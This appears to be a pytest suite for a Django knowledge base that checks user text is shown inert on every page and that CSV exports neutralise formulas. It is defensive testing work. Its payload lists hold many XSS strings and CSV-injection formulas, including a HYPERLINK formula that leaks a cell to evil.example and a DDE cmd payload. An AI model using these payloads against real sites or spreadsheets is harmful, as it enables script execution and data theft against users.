"""Hostile content through every place user text is shown, table-driven.

Each payload goes into everything a person can write (an entry's question, answer,
tags, "also asked as", environment and cause, an edit and its summary, a flag's comment,
a thanks note, a question and its details, a search, a person's name), then every page
that shows it is parsed: no script from user text, no on* or style attribute, no
javascript:/data: URL, no active element, no htmx attribute of the writer's. The CSV
exports are checked for formula injection.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from kb import actions
from kb.actions import TAG_MAX_LENGTH, EntryContent
from kb.csv_export import FORMULA_STARTS
from kb.models import Entry
from tests.conftest import make_user
from tests.helpers import REVIEW_LISTS, page_text
from tests.html_checks import attributes, executable_markup

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD4=",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '[x](https://example.com/" onmouseover="alert(1))',
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div hx-get="/evil-htmx/" hx-trigger="load">x</div>',
    '<button hx-on:click="alert(1)">x</button>',
    '<form action="https://evil.example/"><input name=password></form>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<details open ontoggle=alert(1)>",
    "`<script>alert(1)</script>`",
]

# The marker in the htmx payload: no element of ours points there.
EVIL_HTMX = "/evil-htmx/"


def folded(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def hostile_site(
    request, make_entry, rep, other_rep, supervisor, django_capture_on_commit_callbacks
):
    """rita's entry and everything around it, written with the payload by mallory, whose
    name is the payload too; supervisor views most pages, rita her inbox."""
    payload = request.param
    mallory = make_user("mallory", first_name=payload[:150])
    entry = make_entry(
        question=f"Zebra {payload}",
        answer=f"Zebra crossing steps\n\n{payload}\n\nzebra",
        tags=("zebra", payload[:TAG_MAX_LENGTH]),
        also_asked=f"zebra {payload}",
        environment=payload,
        cause=payload,
        author=rep,
    )
    with django_capture_on_commit_callbacks(execute=True):
        entry = actions.edit_entry(
            entry=entry,
            editor=mallory,
            content=EntryContent(
                question=f"Zebra {payload} (edited)",
                answer=f"{entry.answer}\n\nAlso: {payload}",
                tags=["zebra", payload[:TAG_MAX_LENGTH]],
                also_asked=f"zebra {payload}",
                environment=payload,
                cause=payload,
            ),
            base_version=entry.version,
            summary=payload[:200],
        )
    actions.flag_entry(entry=entry, user=mallory, reason="unclear", comment=payload)
    actions.thank_entry(entry=entry, user=mallory, note=payload[:280])
    question, _ = actions.ask_question(
        user=mallory, text=f"Zebra question {payload}", details=payload
    )
    actions.assign_question(question=question, actor=supervisor, assignee=rep)
    actions.log_search(user=mallory, text=f"zebra nothing {payload}", result_count=0)
    actions.log_search(user=other_rep, text=f"zebra found {payload}", result_count=2)
    for person in (rep, supervisor, make_user("tess")):  # a tag searched often: thin tags
        actions.log_search(user=person, text=payload[:TAG_MAX_LENGTH], result_count=1)
    Entry.objects.filter(pk=entry.pk).update(review_due_at=timezone.now() - timedelta(days=1))
    return {"payload": payload, "entry": entry, "question": question, "mallory": mallory}


def assert_inert(html: str, where: str) -> None:
    found = executable_markup(html)
    assert not found, f"{where}: {found}"
    htmx = [
        (name, value)
        for name, value in attributes(html)
        if name.startswith(("hx-", "data-hx-")) and EVIL_HTMX in value
    ]
    assert not htmx, f"{where}: the writer's htmx attributes survived: {htmx}"


def page_urls(entry_id: int, question_id: int) -> list[str]:
    return [
        "/",
        f"/entries/{entry_id}/",
        f"/entries/{entry_id}/edit/",
        f"/entries/{entry_id}/history/",
        f"/entries/{entry_id}/history/1/",
        f"/entries/{entry_id}/history/2/",
        f"/entries/{entry_id}/history/compare/?a=1&b=2",
        "/search/?q=zebra",
        "/search/?q=zebra+alert+script+onerror+javascript",
        "/search/?q=tag:zebra",
        "/entries/similar/?question=zebra+crossing",
        "/questions/",
        f"/questions/{question_id}/",
        "/people/",
        "/people/mallory/",
        "/review/",
        *REVIEW_LISTS,
    ]


def shown_pages(client, site: dict) -> None:
    """Every page that shows what was written, seen by a supervisor (and the search pages
    as htmx partials too)."""
    for url in page_urls(site["entry"].pk, site["question"].pk):
        partial = url.startswith("/search/")
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}) if partial else ({},):
            response = client.get(url, **headers)
            assert response.status_code == 200, f"{url}: {response.status_code}"
            assert_inert(response.content.decode(), f"{url} {headers}")


def shown_as_text(client, site: dict) -> None:
    """Inert, not dropped: the question reads exactly as typed, markup and all."""
    question = folded(f"Zebra {site['payload']} (edited)")
    assert question in page_text(client.get(f"/entries/{site['entry'].pk}/"))
    assert folded(site["payload"]) in page_text(client.get(f"/questions/{site['question'].pk}/"))


def own_pages(client, site: dict) -> None:
    """rita's inbox (edited, flagged, thanked, assigned) and her own pages."""
    for url in ("/inbox/", "/my/entries/", "/", "/people/rita/"):
        response = client.get(url)
        assert response.status_code == 200
        assert_inert(response.content.decode(), url)


def payload_as_query(client, site: dict) -> None:
    """The query comes back in the search box, the "no results for" line and the links
    to write it up or ask the floor."""
    payload = site["payload"]
    for query in (f"zebra {payload}", f"nothingmatches {payload}"):
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
            response = client.get("/search/", {"q": query}, **headers)
            assert response.status_code == 200
            assert_inert(response.content.decode(), f"search {query!r} {headers}")
    new_entry = client.get("/entries/new/", {"question": payload})
    assert_inert(new_entry.content.decode(), "new entry from a search")
    similar = client.get("/entries/similar/", {"question": payload})
    assert_inert(similar.content.decode(), "similar entries")


def json_api(client, site: dict) -> None:
    entry = site["entry"]
    search = client.get("/api/v1/search", {"q": "zebra alert script"})
    assert search["Content-Type"] == "application/json"
    assert search["X-Content-Type-Options"] == "nosniff"
    results = search.json()["results"]
    assert [result["id"] for result in results] == [entry.pk]
    assert_inert(results[0]["snippet"], "API snippet")
    # Plain-text fields stay the text as written, for the integration to escape.
    assert results[0]["question"] == entry.question
    detail = client.get(f"/api/v1/entries/{entry.pk}").json()
    assert_inert(detail["answer_html"], "API answer_html")
    assert detail["answer"] == entry.answer


def forms_sent_back(client, site: dict) -> None:
    """Pages that show what was just typed: the preview, the edit conflict, a refused
    flag."""
    payload, entry = site["payload"], site["entry"]
    preview = client.post("/preview/", {"answer": payload})
    assert preview.status_code == 200
    assert_inert(preview.content.decode(), "preview")
    stale_edit = {
        "question": f"Zebra {payload} again",
        "answer": payload,
        "tags": payload[:TAG_MAX_LENGTH],
        "version": 1,
    }
    conflict = client.post(f"/entries/{entry.pk}/edit/", stale_edit)
    assert conflict.status_code == 409
    assert_inert(conflict.content.decode(), "edit conflict")
    refused = client.post(
        f"/entries/{entry.pk}/flag/",
        {"reason": "duplicate", "duplicate_of": payload, "comment": payload},
    )
    assert refused.status_code == 400
    assert_inert(refused.content.decode(), "refused flag")


def message_after_assigning(client, site: dict, rep) -> None:
    assigned = client.post(
        "/review/gaps/assign/",
        {"normalized": "zebra", "text": f"zebra {site['payload']}", "assignee": rep.pk},
        follow=True,
    )
    assert assigned.status_code == 200
    assert "they have been told" in page_text(assigned)
    assert_inert(assigned.content.decode(), "message after assigning")


@pytest.mark.parametrize("hostile_site", PAYLOADS, indirect=True)
def test_hostile_text_is_inert_everywhere_it_is_shown(client, rep, supervisor, hostile_site):
    """One test per payload (the site is built once for all of these places)."""
    client.force_login(supervisor)
    shown_pages(client, hostile_site)
    shown_as_text(client, hostile_site)
    message_after_assigning(client, hostile_site, rep)

    client.force_login(rep)
    own_pages(client, hostile_site)
    assert rep.notifications.count() >= 4
    payload_as_query(client, hostile_site)
    json_api(client, hostile_site)
    forms_sent_back(client, hostile_site)


# --- CSV exports: formula injection ---

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1 zebra",
    "-2+3 zebra",
    "@SUM(A1:A9) zebra",
    "\t=1+1 zebra",
    "\r=1+1 zebra",
]

CSV_LISTS = ["no-results", "no-reuse", "questions", "flags", "stale", "tags"]


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_exports_neutralise_formulas(supervisor_client, make_entry, rep, other_rep, formula):
    entry = make_entry(question=f"{formula} question", tags=(formula[:TAG_MAX_LENGTH],))
    actions.flag_entry(entry=entry, user=other_rep, reason="wrong", comment=formula)
    actions.ask_question(user=rep, text=f"{formula} asked", details=formula)
    actions.log_search(user=rep, text=formula, result_count=0)
    actions.log_search(user=other_rep, text=f"{formula} found", result_count=2)
    actions.log_search(user=other_rep, text=f"tag:{formula[:TAG_MAX_LENGTH]}", result_count=1)
    Entry.objects.filter(pk=entry.pk).update(review_due_at=timezone.now() - timedelta(days=1))
    written = folded(formula)

    for kind in CSV_LISTS:
        cells = csv_cells(supervisor_client.get(f"/review/{kind}/", {"format": "csv"}))
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not dangerous, f"{kind}: {dangerous}"
        if kind != "tags":  # tags are lowercased and split at commas
            shown = [cell for cell in cells if written.lower() in cell.lower()]
            assert shown, f"{kind}: the text did not reach the export: {cells}"
